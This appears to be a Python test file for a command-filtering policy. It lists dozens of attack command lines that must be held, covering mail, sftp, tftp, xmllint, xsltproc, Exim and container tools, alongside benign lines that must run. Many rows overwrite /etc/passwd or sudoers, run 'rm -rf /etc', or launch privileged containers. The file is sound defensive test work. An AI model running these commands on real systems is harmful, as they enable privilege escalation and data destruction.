"""Attack v31f, findings 2, 3, 4, 7, 9, 17, 18 and 24 (the thirty-third round on the command
filter): mail's own variables and s-nail's -T recipients; sftp's own unquoting of its local
operand, its `-s` value and its recursive fetches; programs that read a command language or a
program from their stdin (xmllint --shell, tftp, cadaver, XSLT processors, Exim's -be); container
and pod specs read from stdin. The shipped policy: attack lines held (denied or confirmed) typed
and as an exec command, or their exec stdin held; honest lines still run."""

from __future__ import annotations

from bastion.command_control.policy import reads_script_from_stdin
from tests.policy_rows import assert_held_or_runs, typed_and_exec
from tests.rows import each

HELD, RUNS = True, False

ROWS = [
    # 2: mail's -S VAR=VALUE: a file the message is appended to, a program it is fed to
    ("mail -s x -S record=/etc/passwd root < /tmp/body", HELD),
    ("mail -s x -Srecord=/etc/sudoers.d/x root < /tmp/msg", HELD),
    ("s-nail -s x -S MBOX=/etc/shadow root < /tmp/msg", HELD),
    ("mailx -s x -S folder=/etc -S record=+sudoers.d/x root < /tmp/msg", HELD),
    ("mail -s x -S DEAD=/etc/sudoers.d/x root < /tmp/msg", HELD),
    ("mail -s x -S 'sendmail=rm -rf /etc' root < /tmp/msg", HELD),
    ("mail -s x -S on-compose-enter=x root < /tmp/msg", HELD),  # a variable not known: unknown
    ("mail -s x --set record=/etc/passwd root < /tmp/msg", HELD),  # a long option not known
    # 2: s-nail's -T header recipients (with expandaddr, which any mailrc may set)
    ("mail -s x -S expandaddr -T 'cc: |rm -rf /etc' root < /dev/null", HELD),
    ("mail -s x -S expandaddr -T 'bcc: /etc/sudoers.d/x' root < /tmp/msg", HELD),
    ("mail -s x -T 'fcc: /etc/sudoers.d/x' root < /tmp/msg", HELD),
    # 3: the local operand unquoted by sftp's own `get` line
    ("sftp h:/x/y '\"/etc/sudoers\"'", HELD),
    ("sftp h:/x/y \"'/etc/sudoers'\"", HELD),
    ("sftp h:/x/y '\\/etc/sudoers'", HELD),
    ("sftp h:/x/y '/etc/sudoer\\s'", HELD),
    # 7: sftp's -s SUBSYSTEM takes a value
    ("sftp -s sftp h:/x/y /etc/sudoers", HELD),
    ("sftp -s /usr/lib/openssh/sftp-server h:/x/y /etc/sudoers", HELD),
    ("cd /etc && sftp -s sftp h:/x/sudoers", HELD),
    ("sftp -qs sftp h:/x/y /etc/sudoers", HELD),
    # 18: a recursive fetch (or a folder's contents) lands a tree in the folder
    ("sftp -r h:/tmp/d/. /etc/", HELD),
    ("sftp -r h:/tmp/d/. /etc", HELD),
    ("sftp -r h:/ /etc/", HELD),
    ("sftp -r h:. /etc", HELD),
    ("sftp -r h:/tmp/d /etc", HELD),
    ("sftp h:/tmp/d/. /etc/", HELD),
    # 4: command languages fed on the line
    ("xmllint --shell /tmp/x.xml <<< 'save /etc/passwd'", HELD),
    ("echo 'write /etc/sudoers.d/x' | xmllint --shell /tmp/x.xml", HELD),
    ("tftp h <<< 'get x /etc/sudoers'", HELD),
    ("echo 'get x /etc/sudoers' | tftp h", HELD),
    ("cadaver http://h/dav/ <<< 'get x /etc/sudoers'", HELD),
    ("ncftp h <<< 'get x'", HELD),
    ("atftp h <<< 'get x /etc/sudoers'", HELD),
    ("tftp h -c get x /etc/sudoers", HELD),  # as before: its words read as an unread program's
    ("atftp -g -r x -l /etc/sudoers h", HELD),
    # 24: a stylesheet fed on the line (exsl:document writes any file)
    ("xsltproc - /tmp/x.xml <<< '<xsl:stylesheet/>'", HELD),
    ("echo '<xsl:stylesheet/>' | xsltproc - /tmp/x.xml", HELD),
    ("echo '<xsl:stylesheet/>' | xsltproc /dev/stdin /tmp/x.xml", HELD),
    ("echo '<xsl:stylesheet/>' | saxon -xsl:- -s:/tmp/x.xml", HELD),
    ("echo '<xsl:stylesheet/>' | xmlstarlet tr - /tmp/x.xml", HELD),
    ("xsltproc -o /etc/passwd /tmp/s.xsl /tmp/x.xml", HELD),  # as before: an unread output
    # 9: Exim's expansion test mode
    ("exim4 -be '${run{/bin/rm -rf /etc}}'", HELD),
    ("sudo exim4 -be '${run{/bin/rm -rf /etc}}'", HELD),
    ("sendmail -be '${run{/bin/rm -rf /etc}}'", HELD),
    ("exim -bem /tmp/msg '${perl{x}}'", HELD),
    ("echo '${run{/bin/rm -rf /etc}}' | sudo exim4 -be", HELD),
    # 17: a container's or a pod's spec fed on the line
    ("docker compose -f - up -d <<< 'services: {x: {image: debian, privileged: true}}'", HELD),
    ("echo SPEC | docker compose -f - up", HELD),
    ("echo SPEC | docker-compose -f - up", HELD),
    ("echo SPEC | kubectl apply -f -", HELD),
    ("echo SPEC | kubectl create --filename=-", HELD),
    ("echo SPEC | oc apply -f-", HELD),
    ("echo SPEC | docker stack deploy -c - s", HELD),
    ("echo SPEC | podman kube play -", HELD),
    ("echo SPEC | nomad job run -", HELD),
    ("echo SPEC | lxc launch images:debian x", HELD),  # lxc reads a config from any stdin
    ("echo SPEC | virsh create /dev/stdin", HELD),
    # honest halves: plain mail, sftp fetches into a work folder, the XML tools on files
    ("mail -s hi bob < /tmp/msg", RUNS),
    ("mail -s hi -S from=ops@example.com -S sendwait bob < /tmp/msg", RUNS),
    ("mail -s hi -S 'mta=smtp://relay.example.com:25' bob < /tmp/msg", RUNS),
    ("mail -s hi -T 'cc: alice@example.com' bob < /tmp/msg", RUNS),
    ("xmllint --noout /tmp/x.xml", RUNS),
    ("xsltproc /tmp/s.xsl /tmp/x.xml", RUNS),
    ("cat /tmp/x.xml | xsltproc /tmp/s.xsl -", RUNS),
    ("cat /tmp/x.xml | xmlstarlet sel -t -v //a", RUNS),
    ("exim4 -bp", RUNS),
    ("exim4 -be '$tod_log'", RUNS),
    ("sendmail -t < /tmp/msg", RUNS),
    ("docker compose -f compose.yml up -d", RUNS),
    ("kubectl apply -f deploy.yml", RUNS),
]


@each(("line", "held"), ROWS)
def test_attack_v31f_b_rows_held_or_run(default_policy, line, held):
    assert_held_or_runs(default_policy, line, held)


@each("line", ["sftp -r h:/srv/app /tmp/app", "sftp h:/srv/app/x.tar /tmp/",
                                  "sftp -s sftp h:/srv/app/x.tar /tmp/x.tar"])
def test_attack_v31f_b_sftp_fetches_into_a_work_folder_stay_an_alert(default_policy, line):
    # as every sftp fetch: alerted (alert-copy-out), not held
    assert [v.action for v in typed_and_exec(default_policy, line)] == ["alert", "alert"]


@each(("command", "reads"), [
    # as an exec command the stdin is a program: its first data held (bastion.ssh.fed_gate)
    ("mail -s x -S record=/etc/profile.d/x.sh root", "interpreter"),
    ("s-nail -n -S mta=/bin/true -s x -S record=/tmp/x root", "interpreter"),
    ("mail -s x -S expandaddr -T 'cc: |sh' root", "interpreter"),
    ("xmllint --shell /tmp/x.xml", "interpreter"),
    ("tftp h", "interpreter"),
    ("cadaver http://h/dav/", "interpreter"),
    ("xsltproc - /tmp/x.xml", "interpreter"),
    ("xsltproc --stringparam a b /dev/stdin /tmp/x.xml", "interpreter"),
    ("exim4 -be", "interpreter"),
    ("docker compose -f - up -d", "program"),
    ("docker stack deploy -c - s", "program"),
    ("kubectl apply -f -", "program"),
    ("podman kube play /dev/stdin", "program"),
    ("nomad job run -", "program"),
    ("helm install x ./chart -f -", "program"),
    ("lxc launch images:debian x", "program"),
    ("incus config edit x", "program"),
    ("virsh define /dev/stdin", "program"),
    ("atftp h", "interpreter"),
    # honest halves: the stdin is a message, or a document, or not read
    ("mail -s hi -S from=ops@example.com bob", None),
    ("xmllint --format -", None),
    ("xsltproc /tmp/s.xsl -", None),
    ("sendmail -t", None),
    ("docker compose up -d", None),
    ("kubectl apply -f deploy.yml", None),
    ("lxc list", None),
    ("virsh create vm.xml", None),
])
def test_attack_v31f_b_exec_stdin_read_as_a_program(command, reads):
    assert reads_script_from_stdin(command) == reads
